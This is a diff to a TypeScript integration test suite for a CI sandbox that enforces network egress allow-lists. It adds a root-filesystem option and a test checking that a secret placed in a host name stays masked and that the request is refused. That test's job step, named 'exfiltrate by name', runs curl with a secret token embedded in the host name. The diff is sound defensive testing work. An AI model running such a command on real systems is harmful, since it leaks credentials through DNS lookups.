@@ -4,12 +4,19 @@
 // 127.0.0.1 and 169.254.169.254, an SNI mismatch and an unlisted host are refused, and every
 // decision shows in the job's log. A run without an allow-list has no proxy and no network.
 import assert from "node:assert/strict";
-import { readFileSync } from "node:fs";
+import { readFileSync, rmSync, writeFileSync } from "node:fs";
+import path from "node:path";
 import { after, before, test } from "node:test";
 import { makeRepo, runAirlock, type TempRepo } from "../helpers/repo.js";
 import { canRunNetns, startInternet, type Internet } from "./internet.js";
 
 const skip = canRunNetns ? false : "needs root and iproute2 (network namespaces)";
+/**
+ * The jobs' root filesystem: an unpacked job image (e.g. debian-12) when AIRLOCK_TEST_ROOTFS names
+ * one, else the host's root (the local opt-in), which has curl and git on CI hosts.
+ */
+const rootfs = process.env.AIRLOCK_TEST_ROOTFS;
+const platform = rootfs ? ["-P", `ubuntu-latest=${rootfs}`] : [];
 let net: Internet;
 const repos: TempRepo[] = [];
 
@@ -81,6 +88,7 @@ void test("a job reaches allowed destinations through the proxy, and nothing els
     r.dir,
     [
       "run",
+      ...platform,
       "--egress-allow",
       "www.test.example:80",
       "--egress-allow",
@@ -136,7 +144,7 @@ void test("a run without an allow-list has no proxy and no network", { skip }, a
       ].join("\n"),
     ),
   );
-  const res = await runAirlock(r.dir, ["run"], { AIRLOCK_EGRESS_DNS: net.dns.address });
+  const res = await runAirlock(r.dir, ["run", ...platform], { AIRLOCK_EGRESS_DNS: net.dns.address });
   assert.equal(res.code, 0, `${res.stdout}\n${res.stderr}`);
   assert.match(res.stdout, /proxy=\[\]/);
   assert.match(res.stdout, /\| nothing-done$/m);
@@ -156,3 +164,27 @@ void test(
     assert.doesNotMatch(res.stdout, /SHOULD-NOT-RUN/);
   },
 );
+
+void test("a secret in a host name stays masked in the egress records", { skip }, async () => {
+  const r = repo(
+    step(
+      "exfiltrate by name",
+      'curl -sS --fail --max-time 10 "http://$TOKEN.test.example/" || echo "masked-done"',
+    ).replace("run: |", "env:\n          TOKEN: ${{ secrets.TOKEN }}\n        run: |"),
+  );
+  const secrets = path.join(r.dir, "..", `${path.basename(r.dir)}.secrets`);
+  writeFileSync(secrets, "TOKEN=s3cr3tvalue4242\n");
+  try {
+    const res = await runAirlock(
+      r.dir,
+      ["run", ...platform, "--secret-file", secrets, "--egress-allow", "www.test.example:80"],
+      { AIRLOCK_EGRESS_DNS: net.dns.address },
+    );
+    assert.equal(res.code, 0, `${res.stdout}\n${res.stderr}`);
+    assert.match(res.stdout, /egress: refused GET \*\*\*\.test\.example:80 \(not on the allow-list\)/);
+    assert.doesNotMatch(res.stdout, /s3cr3tvalue4242/);
+    assert.match(res.stdout, /\| masked-done$/m);
+  } finally {
+    rmSync(secrets, { force: true });
+  }
+});
